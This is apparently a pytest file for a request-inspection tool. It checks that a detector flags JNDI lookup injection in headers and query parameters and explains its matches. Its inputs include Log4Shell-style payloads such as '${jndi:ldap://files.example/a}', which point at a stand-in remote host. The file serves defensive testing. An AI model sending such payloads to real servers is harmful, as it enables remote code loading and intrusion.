from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
from gatelens.decoders.decoded import Decoded
from gatelens.decoders.segment import NamedSegment
from gatelens.inspection import Hit, Target, View
from gatelens.inspectors.jndi_lookup import Inspector
from gatelens.model.finding import Match
from gatelens.model.location import Location, Part
from gatelens.model.message import Message, Phase
from gatelens.model.rule import Rule, RuleFile
from gatelens.ruleset.loader import rule_from
from ruamel.yaml import YAML

FILE: dict[str, Any] = YAML(typ="safe").load(Path(__file__).parents[2] / "rules/injection/jndi-lookup.yaml")
REQUEST = Message(phase=Phase.REQUEST, method="POST", target="/", headers=(), body=b"", time=1_800_000_000.0)


def rule(**params: Any) -> Rule:
    made = rule_from(msgspec.convert({**FILE, "params": {**FILE["params"], **params}}, RuleFile), "test.yaml")
    assert made is not None
    return made


def inspect(value: str, own: Rule) -> list[Match]:
    hit = Hit(own, Target(NamedSegment(Part.HEADER, ["user-agent"], [value]), 0, value))
    return list(Inspector([own]).inspect(View(REQUEST, Decoded(), [own], [hit])))


def test_a_match_says_where_what_and_why() -> None:
    assert inspect("zz ${jndi:ldap://files.example/a}", rule()) == [
        Match(
            rule="jndi-lookup",
            location=Location(Part.HEADER, "user-agent[0]"),
            evidence="${jndi:ldap://files.example/a}",
            explanation="looks up a name by JNDI",
        )
    ]


def test_a_prefix_tells_about_the_server_only_where_the_rule_lists_it() -> None:
    assert inspect("${zz:name}", rule(telling=["zz:"]))
    assert inspect("${zz:name}", rule()) == []


def test_the_lookup_is_drawn() -> None:
    own = rule()
    hit = Hit(own, Target(NamedSegment(Part.QUERY, ["q"], ["${jndi:rmi://a}"]), 0, "${jndi:rmi://a}"))
    shown = Inspector([own]).explain(hit)
    assert shown is not None
    assert [child.piece for child in shown.attack.children] == ["jndi:rmi://a"]
